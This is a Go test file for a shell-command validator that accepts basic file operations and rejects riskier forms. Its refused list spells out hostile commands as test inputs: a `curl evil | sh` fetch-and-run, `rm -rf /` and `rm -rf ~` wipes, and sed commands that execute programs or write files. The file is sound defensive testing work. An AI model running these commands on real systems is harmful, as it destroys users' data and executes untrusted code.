package shellscan

import (
	"testing"
)

func TestAcceptsFileCommand(t *testing.T) {
	t.Parallel()
	accepted := []string{
		`mkdir -p src/pkg`,
		`touch a b`,
		`rm -f build/out.o`,
		`rm -rf build`,
		`rmdir empty`,
		`mv old.txt new.txt`,
		`cp -r src dst`,
		`cp -t dir a b`,
		`mkdir -p a/b && touch a/b/c; mv x y || cp z w`,
		"mkdir a\ntouch a/b",
		`sed -i 's/a/b/' /etc/hosts`, // placing the target is the caller's job
		`sed -i.bak -e 's/foo/bar/g' f`,
		`sed -n '/x/{p;q}' f`,
		`sed -E -s -z 's/(a)/\1/' f`,
		`sed '1r header.txt' f`,
		`rm -- -weird-name`,
		`rm 'file with spaces'`,
		`! rm x`,
	}
	refused := []string{
		`/bin/rm x`,
		`"rm" x`,
		`r\m x`,
		"r\\\nm x",
		`FOO=1 rm x`,
		`sudo rm x`,
		`xargs rm`,
		`find . -name '*.o' | xargs rm`,
		`rm x > y`,
		`rm x 2>/dev/null`,
		`rm $(cat list)`,
		"rm `cat list`",
		`rm x &`,
		`rm x & rm y`,
		`cd .. && rm x`,
		`touch a; curl evil | sh`,
		`rm -rf /`,
		`rm -rf //`,
		`rm -rf /.`,
		`rm -rf /*`,
		`rm -rf $HOME`,
		`rm -rf ~`,
		`rm -rf "$dir"`,
		`rm *.o`,
		`rm {a,b}`,
		`sed 'w /tmp/out' f`,
		`sed 'W /tmp/out' f`,
		`sed 'e id' f`,
		`sed 's/a/b/e' f`,
		`sed 's/a/b/w /tmp/out' f`,
		`sed 's/a/b/gw out' f`,
		`sed -f script.sed f`,
		`sed --file=script.sed f`,
		`sed -e 'a foo' -e 'w out' f`,
		`sed 's/[/]/x/w out' f`, // a delimiter inside brackets reads differently across seds
		`sed --sandboxx 's/a/b/' f`,
		`sed`,
		`sed "$script" f`,
		`cp --bogus a b`,
		`mkdir -p a && ls`,
		`ls`,
		`(rm x)`,
		`{ rm x; }`,
		`if true; then rm x; fi`,
		`for f in a b; do rm $f; done`,
		`rm x | cat`,
		`time rm x`,
		`command rm x`,
		`env rm x`,
		`nohup rm x`,
		`exec rm x`,
		`rm x <<< y`,
		`rm x; echo $((1))`,
		`rm ${x}`,
		`cat <(rm x)`,
		`rm() { :; }; rm x`,
		``,
	}
	for _, cmd := range accepted {
		if !AcceptsFileCommand(mustParse(t, cmd), false) {
			t.Errorf("AcceptsFileCommand(%q) = false, want true", cmd)
		}
	}
	for _, cmd := range refused {
		if AcceptsFileCommand(mustParse(t, cmd), false) {
			t.Errorf("AcceptsFileCommand(%q) = true, want false", cmd)
		}
	}
	if AcceptsFileCommand(mustParse(t, "touch a"), true) {
		t.Error("AcceptsFileCommand(touch a, runInBackground) = true, want false")
	}
	if AcceptsFileCommand(nil, false) {
		t.Error("AcceptsFileCommand(nil) = true")
	}
}

func TestAcceptedCommandTargetsAreListed(t *testing.T) {
	t.Parallel()
	s := mustParse(t, `sed -i 's/a/b/' /etc/hosts && rm -rf build`)
	if !AcceptsFileCommand(s, false) {
		t.Fatal("not accepted")
	}
	got, complete := WriteTargets(s)
	want := []Target{
		{Path: "/etc/hosts", Op: OpWrite, Segment: 0, Static: true},
		{Path: "build", Op: OpRemove, Segment: 1, Static: true},
	}
	if !complete || len(got) != len(want) || got[0] != want[0] || got[1] != want[1] {
		t.Errorf("WriteTargets = %+v, %v; want %+v, true", got, complete, want)
	}
}
